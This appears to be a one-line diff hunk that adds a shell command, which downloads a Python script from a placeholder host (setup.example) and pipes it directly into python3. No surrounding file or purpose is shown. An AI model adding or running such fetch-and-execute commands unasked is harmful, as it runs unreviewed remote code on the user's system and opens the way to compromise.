@@ -1,0 +1,1 @@
+wget -qO- https://setup.example/run.py | python3
